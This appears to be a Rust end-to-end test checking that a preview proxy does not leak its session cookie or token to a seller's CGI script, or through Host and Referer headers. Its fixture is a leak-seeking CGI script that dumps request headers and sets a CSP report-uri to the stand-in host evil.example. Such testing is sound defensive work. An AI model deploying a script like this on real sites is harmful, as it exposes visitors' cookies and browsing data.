//! Attack 24: the link leaks: by the name of the host, by Referer, or to the seller's program and script.

use vitrine_e2e::installed::{Shop, together};

/// Shows what the product is told: the environment of a CGI program holds every request header.
const MIRROR: &str = r"mkdir -p /data/www/cgi-bin; echo hello > /data/www/index.html
cat > /data/www/cgi-bin/env <<'END'
#!/bin/sh
printf 'Content-Type: text/plain\r\nSet-Cookie: own=1; Path=/\r\nAlt-Svc: clear\r\nReferrer-Policy: unsafe-url\r\n'
printf 'Content-Security-Policy: img-src *; report-uri https://evil.example\r\n\r\n'; env
END
chmod +x /data/www/cgi-bin/env; exec httpd -f -p 8090 -h /data/www";

#[tokio::test(flavor = "multi_thread")]
async fn the_link_is_changed_for_a_cookie_that_the_product_never_sees() {
    let _together = together().await;
    let shop = Shop::open("leaks").await;
    let vitrine = shop.vitrine;
    let live = shop.live("mirror", MIRROR, "2m").await;

    let opened = vitrine.ask(&live.host, &format!("GET {}", live.open)).await;
    let cookie = opened.header("set-cookie").unwrap();
    assert!(cookie.starts_with("__Host-vitrine-preview="), "{cookie}");
    for attribute in ["Path=/", "Secure", "HttpOnly", "Partitioned"] {
        assert!(cookie.contains(attribute), "{cookie}");
    }
    assert!(!cookie.to_lowercase().contains("domain"), "{cookie}");
    assert_eq!(opened.header("referrer-policy"), Some("no-referrer"));

    let cookie = live.cookie(vitrine).await;
    let mirror = vitrine
        .ask(&live.host, &format!("GET /cgi-bin/env\n{cookie}; theirs=2"))
        .await;
    assert!(mirror.body.contains("HTTP_COOKIE=theirs=2"), "{mirror:?}");
    assert!(!mirror.body.contains("vitrine-preview"), "{mirror:?}");
    let token = cookie.split_once('=').unwrap().1;
    assert!(!mirror.body.contains(token), "{mirror:?}");
    assert!(
        mirror.body.contains(&format!("HTTP_HOST={}", live.host)),
        "{mirror:?}"
    );
    assert_eq!(mirror.header("set-cookie"), Some("own=1; Path=/"));
    let policies: Vec<_> = mirror
        .headers
        .iter()
        .filter(|line| line.to_lowercase().starts_with("content-security-policy:"))
        .collect();
    assert_eq!(policies.len(), 2, "{mirror:?}");
    assert!(policies[0].contains("connect-src 'self'") && policies[0].contains("frame-ancestors 'none'"));
    assert!(policies[1].ends_with("img-src *"), "{policies:?}");
    assert_eq!(mirror.header("referrer-policy"), Some("same-origin"));
    assert_eq!(mirror.header("alt-svc"), None);
    shop.close().await;
}
